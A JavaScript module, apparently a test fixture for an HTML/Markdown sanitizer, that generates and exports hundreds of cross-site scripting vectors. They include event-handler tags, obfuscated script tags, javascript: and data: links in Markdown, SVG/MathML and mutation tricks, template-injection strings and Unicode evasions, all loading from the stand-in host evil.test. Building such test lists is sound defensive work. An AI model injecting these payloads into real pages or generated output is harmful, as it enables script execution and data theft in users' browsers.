// Script-injection vectors of the well-known families, as answer text and as anything else that a server sends. Each would
// set window.__pwned, or load something of evil.test, in a page that took it for mark-up.
const run = "window.__pwned=1";
const evil = "https://evil.test/x";

const tags = ["img", "svg", "video", "audio", "iframe", "object", "embed", "body", "input", "details", "marquee", "math", "form", "button", "select", "a", "link", "style", "base", "meta", "keygen", "isindex", "table", "td", "template"];
const handlers = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onanimationstart", "onpointerenter", "oncanplay", "onbegin", "onwheel", "onscrollend", "oncontentvisibilityautostatechange", "onbeforetoggle"];
const schemes = [
  "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "java\rscript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "javascript\u0000:",
  "\u0001javascript:", "vbscript:", "livescript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "data:application/javascript,", "view-source:javascript:", "feed:javascript:", "jar:", "blob:", "filesystem:", "file:///etc/passwd#", "ftp://evil.test/", "intent://evil.test/#",
  "javascript://%0a", "javascript:/*--></title>*/", "//evil.test/", "\\\\evil.test\\", "/\\evil.test/", "https:evil", "https://user:pass@evil.test/", "%6Aavascript:", "javas\u200bcript:", "\u202ejavascript:", "ＪavaScript:", "about:blank#", "chrome://", "ws://evil.test/", "x-javascript:",
];
const shapes = [
  (address) => `[Click](${address}${run})`,
  (address) => `![alt](${address}${run})`,
  (address) => `<${address}${run}>`,
  (address) => `[**bold**](<${address}${run}>)`,
  (address) => `[Click][1]\n\n[1]: ${address}${run}`,
  (address) => `<a href="${address}${run}">Click</a>`,
];

const families = [
  // Tags with handlers.
  tags.flatMap((tag, at) => [0, 1, 2, 3].map((step) => `<${tag} ${handlers[(at * 3 + step * 5) % handlers.length]}="${run}" src=${evil} href=${evil} data=${evil} autofocus open>`)),
  handlers.map((handler) => `<x${" ".repeat(1)}${handler}=${run} tabindex=1 id=x contenteditable>x</x>`),
  // Scripts, plain and odd.
  [
    `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script src=${evil}></script>`, `<script/x>${run}</script>`, `<script\n>${run}</script>`, `<<script>${run}//<</script>`, `<script>${run}`,
    `<script type=module>import "${evil}"</script>`, `<script>/*</script><script>*/${run}</script>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `</textarea><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, `</noscript><script>${run}</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`, `%3Cscript%3E${run}%3C/script%3E`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `\\x3cscript\\x3e${run}\\x3c/script\\x3e`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `＜script＞${run}＜/script＞`, `<script\u0000>${run}</script>`, `<\u0000script>${run}</script>`, `<scr\u0000ipt>${run}</script>`,
  ],
  // Addresses in all shapes of links and images.
  schemes.flatMap((scheme) => shapes.map((shape) => shape(scheme))),
  // SVG and MathML.
  [
    `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${run} /></svg>#x">`, `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`, `<svg><set attributeName=href to=javascript:${run}>`, `<svg><image href=${evil}>`, `<svg><style>@import '${evil}'</style></svg>`, `<svg><desc><![CDATA[</desc><img src=x onerror=${run}>]]></svg>`, `<svg/onload=${run}>`, `<svg\n\tonload\n=\n${run}>`, `<svg><title><img src=x onerror=${run}></title></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`, `<math href="javascript:${run}">x</math>`, `<math><maction actiontype="statusline#${evil}" xlink:href="javascript:${run}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  ],
  // Mutation: harmless until it is parsed a second time.
  [
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`, `<template><img src=x onerror=${run}></template>`, `<template shadowrootmode=open><script>${run}</script></template>`, `<div id="--><img src=x onerror=${run}>">`, `<!--><img src=x onerror=${run}>-->`, `<!--!><img src=x onerror=${run}>`, `<![CDATA[<img src=x onerror=${run}>]]>`, `<?xml <img src=x onerror=${run}>?>`, `<!doctype x [<!ENTITY y SYSTEM "${evil}">]>&y;`,
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`, `<xmp><img src=x onerror=${run}></xmp>`, `<plaintext><img src=x onerror=${run}>`, `<p id="\`><img src=x onerror=${run}>">`, `<a href="x" title='"><img src=x onerror=${run}>'>`, `<select><iframe></select><img src=x onerror=${run}>`, `<table><caption><img src=x onerror=${run}></table>`, `<frameset><frame src="javascript:${run}">`, `<style><style /><img src=x onerror=${run}>`, `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;">`,
  ],
  // Markdown that breaks out, or hides what it is.
  [
    `[x](javascript:${run} "t")`, `[x]( javascript:${run})`, `[x](javascript:${run}\n)`, `[x\n](javascript:${run})`, `[[x](${evil})](javascript:${run})`, `[![x](${evil}/i.png)](javascript:${run})`, `![x](${evil}/i.png "onerror=${run}")`, `![" onerror="${run}](${evil}/i.png)`, `![x](${evil}/i.png" onerror="${run})`, `[x](${evil}" onmouseover="${run})`, `[x](${evil}' onmouseover='${run})`, `[" onclick="${run}](${evil})`, `<${evil}" onmouseover="${run}>`, `${evil}"onmouseover="${run}`, `\`<img src=x onerror=${run}>\``, `\`\`\`html\n<img src=x onerror=${run}>\n\`\`\``, `\`\`\`"><img src=x onerror=${run}>\n\`\`\``, `~~~\n</code></pre><script>${run}</script>`, `    <script>${run}</script>`, `# <img src=x onerror=${run}>`, `> <img src=x onerror=${run}>`, `- <img src=x onerror=${run}>`, `1. <svg onload=${run}>`, `| <img src=x onerror=${run}> |\n|---|\n| <svg onload=${run}> |`, `**<img src=x onerror=${run}>**`, `*<b onclick=${run}>*`, `~~<script>${run}</script>~~`, `[1](javascript:${run})`, `[1]"><img src=x onerror=${run}>`, `\\<script>${run}\\</script>`, `&#x3c;img src=x onerror=${run}&#x3e;`, `[x]: javascript:${run}\n[x]`, `[x][]\n\n[x]: data:text/html,<script>${run}</script>`, `*[x](*javascript:${run}*)*`, `[a](b)[c](javascript:${run})`, `[x](#"><script>${run}</script>)`, `[x](?"><script>${run}</script>)`, `[x](\u0000javascript:${run})`, `[x](\u00a0javascript:${run})`, `[x](\ufeffjavascript:${run})`, `[x](\u2028javascript:${run})`, `[x](javascript\uff1a${run})`, `[x](jav&#x0A;ascript:${run})`, `[x](jav&Tab;ascript:${run})`, `[x](mailto:a@b.test"onclick=${run})`, `[x](tel:1"onclick=${run})`, `[x](https://evil.test@good.test:80:80/)`, `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9fcHduZWQ9MT4=)`,
  ],
  // Styles, expressions of frameworks, and what looks like a template.
  [
    `<style>@import url(${evil})</style>`, `<style>*{background:url(${evil})}</style>`, `<div style="background:url(${evil})">`, `<div style="width:expression(${run})">`, `<link rel=stylesheet href=${evil}>`, `<link rel=prefetch href=${evil}>`, `<link rel=preload as=image href=${evil}>`, `<link rel=dns-prefetch href=//evil.test>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<base href=${evil}/>`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `#{${run}}`, `[[${run}]]`, `{%${run}%}`, `<slot onslotchange=${run}>`, `<portal src=${evil}>`, `<object data="javascript:${run}">`, `<embed src="javascript:${run}">`, `<applet code="javascript:${run}">`, `<bgsound src="javascript:${run}">`, `<layer src=${evil}>`, `<image src=x onerror=${run}>`, `<picture><source srcset=${evil}><img src=x onerror=${run}></picture>`, `<video><source onerror=${run}></video>`, `<video poster=${evil}>`, `<audio src=${evil} autoplay>`, `<track src=${evil}>`, `<input type=image src=${evil} onerror=${run}>`, `<button form=x formaction=javascript:${run}>`, `<form action=javascript:${run}><input type=submit>`, `<isindex type=image src=1 onerror=${run}>`, `<dialog open onclose=${run}>`, `<popover onbeforetoggle=${run}>`, `<div popover id=x onbeforetoggle=${run}></div><button popovertarget=x>`,
  ],
  // Unicode tricks.
  ["\u202e", "\u2066", "\u200d", "\ufeff", "\u0085", "\u2029", "\ud800", "\udfff", "\u00ad", "\u180e"].flatMap((mark) => [`<img${mark}src=x onerror=${run}>`, `<script${mark}>${run}</script>`, `[x](java${mark}script:${run})`]),
];

export const vectors = [...new Set(families.flat())];
